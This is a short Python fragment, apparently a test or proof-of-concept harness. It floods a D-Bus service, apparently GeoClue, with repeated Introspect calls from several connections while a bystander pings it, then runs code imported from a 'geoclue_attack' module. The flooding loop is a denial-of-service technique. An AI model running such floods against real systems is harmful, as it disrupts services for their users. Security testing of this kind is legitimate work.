bystander = Bus(ADDRESS)
def flood(bus, count):
    calls = [bus.send(NAME, MANAGER, "org.freedesktop.DBus.Introspectable", "Introspect") for _ in range(count)]
    bus.flush()
    bystander.call(NAME, MANAGER, "org.freedesktop.DBus.Peer", "Ping")
    return calls
slow = Bus(ADDRESS)
calls = [call for _ in range(4) for call in flood(slow, 25)]
floods = [Bus(ADDRESS) for _ in range(8)]
# The bus refuses more calls at once that are not answered.
for _ in range(10):
    for bus in floods:
        flood(bus, 60)
end(start(GRANTED, "from geoclue_attack import *; print(outcome())"))
print(len([slow.wait(lambda: slow.replies.get(call)) for call in calls]))
